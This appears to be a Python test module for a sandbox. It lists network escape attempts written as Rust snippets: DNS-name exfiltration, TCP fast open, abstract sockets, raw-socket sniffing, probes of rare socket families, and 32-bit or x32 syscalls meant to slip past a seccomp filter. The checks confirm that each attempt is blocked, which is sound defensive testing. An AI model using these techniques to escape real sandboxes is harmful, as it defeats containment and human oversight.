"""Attacks over the network and local sockets."""
# ruff: noqa: E501  (programs in another language stand in these lines)

import contextlib
import socket
import time

from tests.attacks.case import Case, Check, Story, program, unseen
from tests.attacks.world import World


def unheard(word: str) -> Check:
    """Check that none of the test's sockets received this."""

    def held(world: World, _story: Story) -> None:
        time.sleep(0.2)
        assert word not in world.listener.heard

    return held


def _no_interfaces(_world: World, story: Story) -> None:
    for _, name in socket.if_nameindex():
        assert name == "lo" or f"LINK {name}" not in story.text


def _knock(world: World) -> None:
    """Connect to a port that the run has opened."""
    port = int(world.names["KEY"]) % 20000 + 20000
    for _ in range(10):
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 1) as door:
            world.notes["door"] = door.recv(100).decode()
            return
        time.sleep(0.1)


def _no_door(world: World, _story: Story) -> None:
    assert "welcome" not in world.notes.get("door", "")


def _only_harmless_families(_world: World, story: Story) -> None:
    assert "FAMILY" not in story.text


_INET = "let mut to = [2u8, 0, ({0} >> 8) as u8, ({0} & 255) as u8, 127, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0];"
_ADDRESS = _INET.format("@PORT@")

CASES = (
    Case(
        "net-tcp",
        "connect to a server on this machine over TCP",
        unheard("by-tcp"),
        program('println!("{:?}", net::TcpStream::connect("127.0.0.1:@PORT@").and_then(|mut s| s.write(b"by-tcp")));'),
    ),
    Case(
        "net-tcp6",
        "connect over IPv6, also to an IPv4 address written as IPv6",
        unheard("by-six"),
        program("""
            for to in ["[::1]:@PORT@", "[::ffff:127.0.0.1]:@PORT@"] {
                println!("{:?}", net::TcpStream::connect(to).and_then(|mut s| s.write(b"by-six")));
            }"""),
    ),
    Case(
        "net-udp",
        "send a datagram to a server on this machine",
        unheard("by-udp"),
        program("""
            println!("{:?}", net::UdpSocket::bind("0.0.0.0:0").and_then(|s| s.send_to(b"by-udp", "127.0.0.1:@PORT@")));"""),
    ),
    Case(
        "net-dns",
        "send data out in the name of a DNS query",
        unheard("by-dns"),
        program(r"""
            let question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06by-dns\x07example\x00\x00\x01\x00\x01";
            println!("{:?}", net::UdpSocket::bind("0.0.0.0:0").and_then(|s| s.send_to(question, "127.0.0.1:@PORT@")));
            println!("{:?}", net::ToSocketAddrs::to_socket_addrs("by-dns.invalid:80").map(|_| ()));"""),
    ),
    Case(
        "net-fast-open",
        "send data in TCP's first packet, without a connect call that could be refused",
        unheard("by-fast-open"),
        program(f"""{_ADDRESS}
            unsafe {{
                let fd = socket(2, 1, 0);
                println!("{{fd}} {{}}", sendto(fd, b"by-fast-open".as_ptr(), 12, 0x20000000, to.as_ptr(), 16));
                nap(200);
            }}"""),
    ),
    Case(
        "net-unix",
        "connect to a socket file that every user may use",
        unheard("by-unix"),
        program('println!("{:?}", unet::UnixStream::connect("@SOCKET@").and_then(|mut s| s.write(b"by-unix")));'),
    ),
    Case(
        "net-pair",
        "send a datagram to a socket file that every user may use, from one socket of a pair",
        unheard("by-pair"),
        program("""
            let mut to = vec![1u8, 0];
            to.extend_from_slice(b"@LETTERS@\\0");
            for kind in [2, 3] {
                let mut pair = [-1i32; 2];
                unsafe {
                    let made = syscall(call([53, 199]), 1i64, kind as i64, 0i64, pair.as_mut_ptr());
                    println!("{made} {}", sendto(pair[0], b"by-pair".as_ptr(), 7, 0, to.as_ptr(), to.len() as u32));
                }
            }"""),
    ),
    Case(
        "net-abstract",
        "connect to an abstract socket, which has no file",
        unheard("by-abstract"),
        program("""
            let mut to = vec![1u8, 0, 0];
            to.extend_from_slice(b"@ABSTRACT@");
            unsafe {
                let fd = socket(1, 1, 0);
                println!("{fd} {}", connect(fd, to.as_ptr(), to.len() as u32));
                println!("{}", send(fd, b"by-abstract".as_ptr(), 11, 0x4000));
            }"""),
    ),
    Case(
        "net-listen",
        "open a port and wait for a connection",
        _no_door,
        program("""
            let port = @KEY@ % 20000 + 20000;
            let opened = net::TcpListener::bind(("0.0.0.0", port as u16));
            println!("{opened:?}");
            if let Ok(door) = opened {
                door.set_nonblocking(true);
                for _ in 0..20 {
                    nap(100);
                    if let Ok((mut guest, _)) = door.accept() { guest.write(b"welcome"); break; }
                }
            }"""),
        during=_knock,
    ),
    Case(
        "net-netlink",
        "ask the kernel for the machine's network interfaces over netlink, /proc and /sys",
        _no_interfaces,
        program(r"""
            unsafe {
                let fd = socket(16, 3, 0);
                let mut ask = [0u8; 32];
                ask[0] = 32; ask[4] = 18; ask[6] = 1; ask[7] = 3;
                println!("{fd} {}", send(fd, ask.as_ptr(), 32, 0));
                let mut data = vec![0u8; 65536];
                let n = recv(fd, data.as_mut_ptr(), data.len(), 0x40).max(0) as usize;
                let mut at = 0;
                while at + 16 <= n {
                    let size = u32::from_ne_bytes(data[at..at + 4].try_into().unwrap()) as usize;
                    let mut part = at + 32;
                    while part + 4 <= at + size {
                        let length = u16::from_ne_bytes(data[part..part + 2].try_into().unwrap()) as usize;
                        let kind = u16::from_ne_bytes(data[part + 2..part + 4].try_into().unwrap());
                        if kind == 3 { println!("LINK {}", String::from_utf8_lossy(&data[part + 4..part + length - 1])); }
                        part += (length + 3) / 4 * 4;
                        if length == 0 { break; }
                    }
                    at += (size + 3) / 4 * 4;
                    if size == 0 { break; }
                }
            }
            for path in names("/sys/class/net") { println!("LINK {}", path.file_name().unwrap().to_str().unwrap()); }
            let table = fs::read_to_string("/proc/net/dev").unwrap_or_default();
            for line in table.lines() { println!("LINK {}", line.trim().split(':').next().unwrap()); }"""),
    ),
    Case(
        "net-sniff",
        "capture the machine's traffic with packet and raw sockets",
        unseen("wire"),
        program("""
            unsafe {
                for fd in [socket(17, 3, 0x0300), socket(2, 3, 17), socket(17, 2, 0x0300)] {
                    println!("{fd}");
                    if fd < 0 { continue; }
                    let until = Instant::now() + Duration::from_millis(500);
                    let mut data = vec![0u8; 65536];
                    while Instant::now() < until {
                        let n = recv(fd, data.as_mut_ptr(), data.len(), 0x40);
                        if n > 0 { hush(&data[..n as usize]); } else { nap(5); }
                    }
                }
            }"""),
    ),
    Case(
        "net-odd-families",
        "open sockets of rare families, in whose code most of the kernel's bugs were found",
        _only_harmless_families,
        program("""
            for family in 3..64 {
                if family == 10 { continue; }
                for kind in [1, 2, 3, 5] {
                    let fd = unsafe { socket(family, kind, 0) };
                    if fd >= 0 { println!("FAMILY {family} {kind}"); }
                }
            }"""),
    ),
    Case(
        "net-other-abi",
        "make system calls as a 32-bit or x32 program does, to bypass a filter that knows only 64-bit numbers",
        unheard("by-other"),
        program(f"""{_ADDRESS}
            #[cfg(target_arch = "x86_64")]
            unsafe {{
                use std::arch::asm;
                unsafe fn old(n: i64, a: i64, b: i64, c: i64) -> i64 {{
                    let mut result = n;
                    asm!("xchg rbx, {{b}}", "int 0x80", "xchg rbx, {{b}}", b = inout(reg) a => _, inout("rax") result,
                         in("rcx") b, in("rdx") c, out("r8") _, out("r9") _, out("r10") _, out("r11") _);
                    result
                }}
                let low = mmap(std::ptr::null_mut(), 4096, 3, 0x62, -1, 0);
                std::ptr::copy_nonoverlapping(to.as_ptr(), low, 16);
                std::ptr::copy_nonoverlapping(b"by-other".as_ptr(), low.add(64), 8);
                for x in [0x40000000i64] {{
                    let fd = syscall(x | 41, 2i64, 1i64, 0i64);
                    println!("x32 {{fd}} {{}}", syscall(x | 42, fd, low, 16i64));
                    println!("{{}}", syscall(x | 1, fd, low.add(64), 8i64));
                }}
                io::stdout().flush().unwrap();
                let fd = old(359, 2, 1, 0);
                println!("i386 {{fd}} {{}}", old(362, fd, low as i64, 16));
                println!("{{}}", old(4, fd, low as i64 + 64, 8));
            }}"""),
    ),
)
